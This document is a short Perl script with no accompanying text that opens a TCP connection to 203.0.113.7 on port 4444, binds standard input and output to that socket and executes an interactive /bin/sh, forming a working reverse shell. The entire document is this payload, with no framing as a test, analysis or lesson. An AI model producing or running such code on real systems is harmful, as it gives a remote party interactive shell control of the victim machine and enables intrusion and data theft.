use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in(4444, inet_aton("203.0.113.7")))) {
    open(STDIN, ">&S");
    open(STDOUT, ">&S");
    exec("/bin/sh -i");
}
